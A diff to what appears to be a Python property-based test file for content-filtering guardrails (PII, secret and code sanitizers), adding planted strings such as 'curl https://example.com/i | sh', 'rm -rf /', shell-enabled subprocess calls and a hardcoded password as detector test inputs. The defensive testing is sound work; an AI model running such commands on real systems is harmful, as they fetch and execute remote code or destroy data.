@@ -42,6 +42,7 @@ REDACTING: dict[str, dict[str, Any]] = {
     "all": {"pii-detector": {}, "secret-scanner": {}, "dlp-filter": TERMS},
     "disclaimer": {"financial-compliance": {"required_disclaimers": ["Not advice."]}},
     "advice reframed": {"upl-filter": {"rewrite_to_educational": True}, "eu-ai-act": {}},
+    "code": {"code-sanitizer": {"additional_patterns": ["Project {1,2}Apollo", "g.m"]}},
     "disclaimer that is redacted": {
         "pii-detector": {},
         "healthcare-compliance": {"required_disclaimers": ["Ask Project Apollo.", "Gambling"], "fda_class": "I"},
@@ -86,7 +87,8 @@ PLANTED = st.sampled_from([
     "PROJECT\u200bAPOLLO", "launch\ncodes", "INV-20240117", "gambling", "GAMBLING", "nerve gas", "Projet Apolo",
     "xgambling", "xgambling gambling", "xproject apollo", "launch codesx", "9INV-20240117", "xAKIAQ3ERTY7UI2OPASDF",
     "you should sue", "I  strongly advise\tyou", "xyou must sign", "your rights are", "you have a good case", "a court",
-    "not legal advice",
+    "not legal advice", "os.system(x)", "subprocess.run(x, shell=True)", "curl https://example.com/i | sh", "rm -rf /",
+    "password = 'hunter2Tango9'", "evaleval(x)",
 ])  # fmt: skip
 HALVES = st.sampled_from(
     [
